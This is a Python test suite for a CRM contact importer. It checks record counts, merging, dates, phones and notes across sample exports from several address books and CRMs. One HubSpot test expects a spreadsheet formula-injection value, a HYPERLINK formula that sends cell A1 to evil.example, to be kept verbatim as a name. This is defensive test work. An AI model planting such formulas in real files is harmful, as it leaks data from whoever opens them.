"""Each real-world sample, read, mapped by its suggested columns and merged within the file, gives what a
correct CRM import must (the counts and values of the format notes' "expected" list, for a file imported
alone into an empty CRM). Nothing here touches the database: what the base already holds is the next
step's business."""

from collections import Counter
from pathlib import Path

import pytest

from crm.imports.mapping import suggest
from crm.imports.merge import merge
from crm.imports.readers import read
from crm.imports.records import NO_IDENTITY, SERVICE_ADDRESS, Record, build

SAMPLES = Path(__file__).parent / "samples"


def _records(name: str) -> list[Record]:
    table = read((SAMPLES / name).read_bytes(), name)
    suggestion = suggest(table.headers)
    return merge(build(table, suggestion.columns, date_order=suggestion.date_order))


def _counts(records: list[Record]) -> dict[str, int]:
    counts = Counter(r.kind for r in records)
    counts["merged"] = sum(len(r.numbers) - 1 for r in records)
    return {k: v for k, v in counts.items() if v}


def _person(records: list[Record], last_name: str, first_name: str = "") -> Record:
    found = [
        r
        for r in records
        if r.person
        and r.person.last_name == last_name
        and (not first_name or r.person.first_name == first_name)
    ]
    assert len(found) == 1, [r.numbers for r in found]
    return found[0]


def _phones(record: Record) -> list[str]:
    return [p.value for p in record.person.phones]


def _emails(record: Record) -> list[str]:
    return [e.value for e in record.person.emails]


@pytest.mark.parametrize(
    ("sample", "expected"),
    [
        ("google_contacts.csv", {"contact": 15, "merged": 3, "rejected": 1, "skipped": 1}),
        ("outlook.csv", {"contact": 7, "company": 1, "merged": 4}),
        ("hubspot.csv", {"contact": 10, "merged": 1, "rejected": 1}),
        ("amocrm_contacts.csv", {"contact": 7, "company": 2, "merged": 2, "rejected": 1}),
        ("bitrix24_contacts_utf8.csv", {"contact": 10, "merged": 2}),
        ("bitrix24_contacts_cp1251.csv", {"contact": 10, "merged": 2}),
        ("bitrix24_contacts_excel.xls", {"contact": 10, "merged": 2}),
        ("contacts_v30.vcf", {"contact": 8, "merged": 1, "rejected": 1}),
        ("contacts_v40.vcf", {"contact": 6, "company": 1, "group": 1}),
    ],
)
def test_each_sample_gives_the_expected_counts(sample, expected):
    assert _counts(_records(sample)) == expected


def test_google_keeps_extensions_apart_and_merges_a_person_across_three_rows():
    records = _records("google_contacts.csv")
    ivanova = _person(records, "Иванова")
    assert _phones(ivanova) == ["+79165550101", "+74955552000 доб. 134"]
    assert _emails(ivanova)[0] == "olga.ivanova@stroymontazh.example"
    assert ivanova.person.emails[0].is_primary
    assert ivanova.person.emails[0].kind == "work"
    assert ivanova.person.birthday == "14.03.1985"
    assert ivanova.person.tags == ["Клиенты"]
    assert "\n" in ivanova.person.notes
    assert _phones(_person(records, "Лапин")) == ["+74955552000 доб. 121", "+79165552121"]
    semenov = _person(records, "Семёнов")
    assert semenov.numbers == [3, 4, 20]
    assert (semenov.person.first_name, semenov.person.last_name) == ("Алексей", "Семёнов")
    assert set(_phones(semenov)) == {"+79035550202", "+79035552222"}
    assert _emails(semenov) == ["alex.semenov@mail.example"]
    assert _person(records, "Кузнецова").person.birthday == "21.07"  # no year invented
    fedorov = _person(records, "Фёдоров")
    assert (fedorov.numbers, fedorov.person.middle_name) == ([6, 7], "Игоревич")
    assert _phones(_person(records, "Тимофеев")) == ["+77015551616"]
    assert _person(records, "Ярославцева").person.is_key  # "* starred"


def test_google_drops_an_invalid_email_as_a_field_and_rejects_a_service_address():
    records = _records("google_contacts.csv")
    zaitseva = _person(records, "Зайцева")
    assert _emails(zaitseva) == []
    assert _phones(zaitseva) == ["+79505551212"]
    assert [n.value for n in zaitseva.notes] == ["zaitseva.irina@yandex"]
    assert zaitseva.person.notes == 'Любит звонки после 18:00, "не писать в WhatsApp"'
    rejected = [r for r in records if r.kind == "rejected"]
    assert [(r.numbers, r.reason) for r in rejected] == [([11], SERVICE_ADDRESS)]
    assert [r.numbers for r in records if r.kind == "skipped"] == [[15]]


def test_outlook_reads_month_first_dates_and_splits_a_one_cell_name():
    records = _records("outlook.csv")
    ivanova = _person(records, "Иванова")
    assert ivanova.numbers == [1, 2]
    assert (ivanova.person.first_name, ivanova.person.middle_name) == ("Ольга", "Сергеевна")
    assert ivanova.person.birthday == "14.03.1985"
    assert set(_emails(ivanova)) == {"olga.ivanova@stroymontazh.example", "ivanova.olga@yandex.example"}
    nikolaev = _person(records, "Николаев")
    assert nikolaev.person.birthday == ""
    assert [n.value for n in nikolaev.notes] == ["2/30/1990"]
    companies = [r.company for r in records if r.kind == "company"]
    assert [(c.name, [p.value for p in c.phones]) for c in companies] == [("ООО «Ромашка»", ["+78125553030"])]
    assert _person(records, "Морозова").person.first_name == "Алёна"


def test_hubspot_keeps_both_record_ids_and_a_formula_verbatim():
    records = _records("hubspot.csv")
    ivanova = _person(records, "Иванова")
    assert ivanova.external_ids == ["51234567801", "51234567802"]
    assert ivanova.person.first_name == "Ольга"  # the Cyrillic name wins
    formula = [r for r in records if r.person and r.person.last_name.startswith("=HYPERLINK")]
    assert formula[0].person.last_name == '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
    assert _phones(_person(records, "Fedorov")) == ["+79125550404 доб. 12"]
    assert [(r.numbers, r.reason) for r in records if r.kind == "rejected"] == [([11], NO_IDENTITY)]
    semenovs = [r for r in records if r.person and r.person.last_name in ("Semenov", "Семёнов")]
    assert len(semenovs) == 2  # nothing in the file links them
    assert _person(records, "Семёнов").person.middle_name == "Викторович"


def test_amocrm_branches_on_its_kind_column_and_reads_one_phone_written_twice():
    records = _records("amocrm_contacts.csv")
    ivanova = _person(records, "Иванова")
    assert _phones(ivanova) == ["+74955552000", "+79165550101"]
    assert ivanova.person.tags == ["vip", "Стройка"]
    assert ivanova.created_at.isoformat() == "2023-10-15T14:32:10"
    assert ivanova.person.company_name == "ООО «СтройМонтаж»"
    assert {r.company.name for r in records if r.kind == "company"} == {
        "ООО «СтройМонтаж»",
        "ИП Гусейнов Р.А.",
    }
    assert len(_emails(_person(records, "Кузнецова"))) == 2
    assert _person(records, "", "Тимур").person.phones[0].value == "+79175550909"


def test_bitrix24_files_in_three_encodings_and_formats_give_the_same_records():
    def summary(name: str) -> list[tuple]:
        return [
            (r.numbers, r.kind, r.person.last_name, r.person.notes, _phones(r), _emails(r), r.external_ids)
            for r in _records(name)
        ]

    utf8 = summary("bitrix24_contacts_utf8.csv")
    assert summary("bitrix24_contacts_cp1251.csv") == utf8
    assert summary("bitrix24_contacts_excel.xls") == utf8
    records = _records("bitrix24_contacts_utf8.csv")
    ivanova = _person(records, "Иванова")
    assert ivanova.person.notes == "VIP клиент\nПросила КП до пятницы"  # BBCode stripped
    semenov = _person(records, "Семёнов")
    assert semenov.external_ids == ["102", "115"]
    assert set(_phones(semenov)) == {"+79035550202", "+79035552222"}
    assert [n.value for n in _person(records, "Зайцева").notes] == ["31.02.1990"]
    assert _person(records, "Белоусова").person.messengers[0].handle == "@belousova_lotos"


def test_vcard_30_reads_extensions_yearless_birthdays_and_tab_folded_notes():
    records = _records("contacts_v30.vcf")
    ivanova = _person(records, "Иванова")
    assert _phones(ivanova) == ["+79165550101", "+74955552000 доб. 134"]
    assert ivanova.person.address == "ул. Складская, д. 7, стр. 2"
    assert ivanova.person.city == "Москва"
    assert ivanova.person.birthday == "14.03.1985"
    assert [(m.kind, m.handle) for m in ivanova.person.messengers] == [("telegram", "olga_iv")]
    assert _person(records, "Семёнов").person.first_name == "Алексей"
    kuznetsova = _person(records, "Кузнецова")
    assert (kuznetsova.person.birthday, kuznetsova.person.tags) == ("21.07", ["Клиенты"])
    assert _person(records, "Морозова").person.notes == (
        "Клиентка салона с 2019 года, предпочитает запись на утро, аллергия на аммиачные красители; "
        "просит напоминание за сутки"
    )
    assert _person(records, "Фёдоров").person.middle_name == "Игоревич"
    assert [r.numbers for r in records if r.kind == "rejected"] == [[10]]


def test_vcard_40_reads_uri_phones_and_turns_a_group_into_a_tag_of_its_members():
    records = _records("contacts_v40.vcf")
    ivanova = _person(records, "Иванова")
    assert _phones(ivanova) == ["+79165550101", "+74955552000 доб. 134"]
    assert "Клиенты VIP" in ivanova.person.tags
    assert "Клиенты VIP" in _person(records, "Семёнов").person.tags
    assert _person(records, "Семёнов").person.birthday == "02.11"
    assert _phones(_person(records, "Семенов")) == ["+79035552222"]
    assert [r.company.name for r in records if r.kind == "company"] == ["ООО «Ромашка»"]
    nikolaev = _person(records, "Николаев")
    assert nikolaev.person.birthday == ""
    assert _emails(nikolaev) == ["p.nikolaev@mail.example"]


def test_vcard_21_decodes_quoted_printable_names():
    records = _records("contacts_v21_qp.vcf")
    assert [r.person.last_name for r in records] == ["Морозова", "Николаев"]
    assert _person(records, "Николаев").person.middle_name == "Андреевич"
